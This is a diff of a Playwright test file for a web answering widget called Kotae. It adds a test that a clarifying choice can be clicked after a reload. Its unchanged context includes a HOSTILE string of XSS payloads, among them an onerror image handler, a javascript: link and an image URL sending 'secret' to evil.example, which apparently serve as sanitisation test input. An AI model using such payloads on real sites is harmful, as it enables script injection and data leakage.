@@ -21,6 +21,7 @@ if TYPE_CHECKING:
 
 BOX = "#kotae-question textarea"
 ANSWER = ".kotae-answer:not(.kotae-is-draft)"
+CHOICES = ("Lake Orrin boat hire › Rowing boats", "Fennick station lockers")
 HOSTILE = (
     "It opens <img src=https://evil.example/a.png onerror=\"document.title='pwned'\"> at nine [1].\n\n"
     "![x](https://evil.example/?q=secret) [go](javascript:document.title='pwned') "
@@ -46,12 +47,15 @@ def make_agent(folder: Path) -> Any:
     sources = (Source(1, hours, "opens at nine"), Source(2, plan, "second floor"))
     good = answer("The museum **opens at nine** [1]. The café is on the second floor [2].", *sources)
     thanks = answer("You are welcome.", route="direct")
+    asked = answer("Which one do you mean?", route="clarify", choices=CHOICES)
     plays = {
         "When does it open?": Play(good, good.text, 0.12),
         "Quick?": Play(good, good.text),
         "Endless?": Play(good, "word " * 3000, 0.05),
         "Thanks": Play(thanks, thanks.text),
         "What does it cost?": Play(answer("I could not find that.", *sources, refused=True, notices=("web_off",))),
+        "What is the deposit?": Play(asked),
+        CHOICES[1]: Play(good, good.text),
         "Hostile?": Play(answer(HOSTILE, *sources), HOSTILE, 0.02),
         "No model?": Play(good, error=ModelMissing("x")),
         strings.load("en")("example.what"): Play(good, good.text),
@@ -242,6 +246,19 @@ def test_an_example_is_asked_with_one_click(page: Page, site: Site) -> None:
     page.locator(".kotae-example").first.click()
     answers(page).wait_for()
     assert page.locator(".kotae-question .kotae-text").inner_text() == "What is Kotae?"
+
+
+def test_a_choice_is_made_with_one_click_and_after_a_reload(page: Page, site: Site) -> None:
+    go(page, site)
+    ask_and_wait(page, "What is the deposit?")
+    choices = page.locator("button.kotae-choice")
+    assert [text.split("\n")[0] for text in choices.all_inner_texts()] == ["Rowing boats", "Fennick station lockers"]
+    page.reload()
+    choices.nth(1).click()
+    page.wait_for_function("([s, n]) => document.querySelectorAll(s).length === n", arg=[ANSWER, 2])
+    assert page.locator(".kotae-question .kotae-text").last.inner_text() == CHOICES[1]
+    assert choices.count() == 0
+    assert page.locator("div.kotae-choice").count() == 2
 
 
 def test_the_language_follows_the_browser_and_can_be_switched(browser: Browser, site: Site) -> None:
